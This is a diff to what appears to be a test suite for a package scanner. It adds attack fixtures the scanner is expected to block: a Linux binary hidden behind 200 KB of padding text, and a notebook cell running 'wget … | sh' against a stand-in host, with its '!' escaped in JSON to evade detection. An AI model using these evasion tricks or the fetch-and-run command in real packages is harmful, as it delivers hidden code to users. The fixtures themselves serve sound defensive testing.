@@ -363,3 +363,18 @@ def pe_far_behind_data(p):
 def pe_in_xor(p):
     """A Windows program of which each byte was changed by one key. Must be held."""
     return p.wheel(files={"{m}/model.dat": bytes(b ^ 0xa7 for b in pe(b"\x90" * 400))})
+
+
+@attack
+def elf_behind_text(p):
+    """A Linux program behind 200 KB of text. Must be held."""
+    return cut_off(p, b"a b\n" * 50000 + elf(b"\x90" * 4000), "data[200000:]")
+
+
+@attack
+def notebook_cell_in_escapes(p):
+    """The command of a cell is spelled with the escapes of JSON. Must be held."""
+    cell = {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [],
+            "source": ["!wget -qO- https://cdn.example.net/i.sh | sh\n"]}
+    book = json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})
+    return p.wheel(files={"{m}/start.ipynb": book.replace("!", "\\u0021").encode()})
